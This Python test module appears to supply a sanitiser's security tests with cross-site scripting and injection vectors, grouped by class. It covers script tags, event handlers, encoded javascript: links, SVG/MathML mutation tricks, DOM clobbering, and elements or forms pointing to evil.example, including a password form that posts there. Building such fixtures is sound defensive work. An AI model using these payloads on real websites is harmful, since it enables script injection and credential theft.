"""Attempts to run script, load from elsewhere or take over a page from within an article, by class; all our own."""

from tests.security.parser_vectors import PARSERS

_RUN = "alert(1)"

SCRIPT_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f'<script type="module">{_RUN}</script>',
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    f"a<!--><script>{_RUN}</script>-->",
    f"<!--<img src=--><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?php <script>{_RUN}</script> ?>",
    f"<!DOCTYPE html><script>{_RUN}</script>",
    f"- <script>{_RUN}</script>",
    f"> <script>{_RUN}</script>",
    f"| a |\n|---|\n| <script>{_RUN}</script> |",
    f"[^1]\n\n[^1]: <script>{_RUN}</script>",
    f"# <script>{_RUN}</script>",
    f"`<script>{_RUN}</script>` and ``<script>{_RUN}</script>``",
    f"```html\n<script>{_RUN}</script>\n```",
    f"    <script>{_RUN}</script>",
)

EVENT_ATTRIBUTES = tuple(
    f"<{element} {attribute}>x"
    for element, attribute in (
        ("p", f"onclick={_RUN}"),
        ("p", f"ONCLICK={_RUN}"),
        ("p/", f"onclick={_RUN}"),
        ("p", f"onclick\n=\n{_RUN}"),
        ("p", f'title="a"onclick="{_RUN}"'),
        ("p", f"title='\"onclick={_RUN} '"),
        ("img src=x", f"onerror={_RUN}"),
        ("img src=x", "onerror=&#97;lert(1)"),
        ("img src=x", f"onload='{_RUN}'"),
        ("img/src=x/", f"onerror={_RUN}"),
        ("b", f"onmouseover={_RUN}"),
        ("a href=x.md", f"onfocus={_RUN} autofocus tabindex=1"),
        ("details open", f"ontoggle={_RUN}"),
        ("body", f"onload={_RUN}"),
        ("video", f"onloadstart={_RUN}"),
        ("audio src=x", f"onerror={_RUN}"),
        ("marquee", f"onstart={_RUN}"),
        ("input autofocus", f"onfocus={_RUN}"),
        ("select autofocus", f"onfocus={_RUN}"),
        ("table", f"onanimationstart={_RUN} style=animation-name:x"),
        ("td", f"onbeforematch={_RUN} hidden=until-found"),
        ("custom-element", f"onpointerenter={_RUN}"),
        ("br", f"onauxclick={_RUN}"),
        ("h2", f"oncontextmenu={_RUN}"),
    )
)

_SCRIPT_ADDRESSES = (
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "&#0000106avascript:alert(1)",
    " javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x1f;javascript:alert(1)",
    "javascript&#x3A;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:x",
    "jar:http://evil.example!/x",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "intent://x",
)
ADDRESSES_IN_MARKDOWN = tuple(
    form.format(address.replace(" ", "").replace("\t", "&#9;"))
    for address in _SCRIPT_ADDRESSES
    for form in ("[a]({})", "[a][r]\n\n[r]: {}")
)
ADDRESSES_IN_HTML = tuple(
    form.format(address) for address in _SCRIPT_ADDRESSES[:16] for form in ('<a href="{}">a</a>', '<img src="{}">')
)
OTHER_ADDRESSES = (
    "<javascript:alert(1)>",
    "<javascript://evil.example/%0aalert(1)>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    '[a](<javascript:alert(1)> "t")',
    '[a](x "t\\" onmouseover=alert(1) x=\\"")',
    "[a](x 'onclick=alert(1) \"')",
    '[a](x.md" onclick="alert(1))',
    '![a" onerror="alert(1)](x.png)',
    '![a](x.png" onerror="alert(1))',
    "[[javascript:alert(1)]]",
    '[[a" onclick="alert(1)|b]]',
    "[[a|<img src=x onerror=alert(1)>]]",
    'http://evil.example/"onmouseover=alert(1)',
    "http://evil.example/<script>alert(1)</script>",
    '<http://evil.example/" onclick="alert(1)>',
    '<a"@evil.example onclick=alert(1)>',
)

FOREIGN_ELEMENTS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='//evil.example/x.svg#a'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><a xlink:href='javascript:alert(1)'>a</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
)

LOADING_ELEMENTS = (
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<video poster=//evil.example/x.png><source src=//evil.example/x></video>",
    "<picture><source srcset=//evil.example/x.png><img src=x.png></picture>",
    "<img srcset='//evil.example/x.png 1x' src=x.png>",
    "<img src=//evil.example/x.png>",
    "<img src='\\\\evil.example\\x.png'>",
    "<img src='/\\evil.example/x.png'>",
    "<img src=https://evil.example/x.png>",
    "![a](https://evil.example/x.png)",
    "![a](//evil.example/x.png)",
    "<input type=image src=//evil.example/x>",
    "<body background=//evil.example/x>",
    "<table background=//evil.example/x><tr><td>a</table>",
    "<bgsound src=//evil.example/x>",
    "<portal src=//evil.example></portal>",
    "<fencedframe></fencedframe>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<track src=//evil.example/x>",
)

STYLES = (
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>a</p>",
    "<p style='position:fixed;inset:0'>a</p>",
    "<p STYLE=width:expression(alert(1))>a</p>",
    "<font color=red style=x>a</font>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
)

FORMS = (
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>a</button>",
    "<isindex action=javascript:alert(1)>",
    "<textarea>a</textarea><select><option>b</select>",
    "<button popovertarget=x>a</button><div popover id=x>b</div>",
    "<dialog open>a</dialog>",
    "<keygen><menuitem>a",
)

TAKING_OVER = (
    "<p id=main class=menu>a</p>",
    "<a id=location name=location href=x.md>a</a>",
    "<img name=getElementById src=x.png>",
    "<h2 id=search>a</h2>",
    "# main {#main .menu onclick=alert(1)}",
    "a\n{: #main onclick=alert(1) }",
    "<div class='align-right' data-search>a</div>",
    "<p accesskey=x contenteditable tabindex=1 draggable=true is=x slot=y part=z>a</p>",
    "<p role=alert aria-label=x itemscope itemprop=y>a</p>",
    '<div class="footnote-definition" id="1"><sup class="footnote-definition-label">1</sup>a</div>',
    '<td style="text-align: right">a</td>',
    '<table><tr><td style="text-align: right; background: url(//evil.example)">a</table>',
    '<sup class="footnote-reference"><a href="#1">1</a></sup>',
    '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>\n\n[^1]\n\n[^1]: a',
    '<pre><code class="language-&quot; onclick=alert(1)">a</code></pre>',
    '```py" onclick="alert(1)\na\n```',
    "~~~ <script>alert(1)</script>\na\n~~~",
    "\x01" + "0" + "\x01 \x02 \x03a right\x03 \x03c python\x03 \x03r 1\x03 \x03d 1\x03",
    "&#1;0&#1; &#x2;x &#3;a right&#3; <td>&#3;a right&#3;x</td> <div>&#3;d 1&#3;x</div>",
    "<p title='&#1;0&#1;&#2;'>a</p> [a](&#1;0&#1;) [b](\x010\x01)",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "</article></main></body></html><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    '<p title="</p><img src=x onerror=alert(1)>">a</p>',
    "<table><a href=x.md><td></a><img src=x onerror=alert(1)></table>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
)

VECTORS: dict[str, tuple[str, ...]] = {
    "script elements": SCRIPT_ELEMENTS,
    "event attributes": EVENT_ATTRIBUTES,
    "addresses in Markdown": ADDRESSES_IN_MARKDOWN,
    "addresses in HTML": ADDRESSES_IN_HTML,
    "other addresses": OTHER_ADDRESSES,
    "elements of SVG and MathML": FOREIGN_ELEMENTS,
    "elements that load": LOADING_ELEMENTS,
    "styles": STYLES,
    "forms": FORMS,
    "taking over the page": TAKING_OVER,
    **PARSERS,
}
"""By class."""
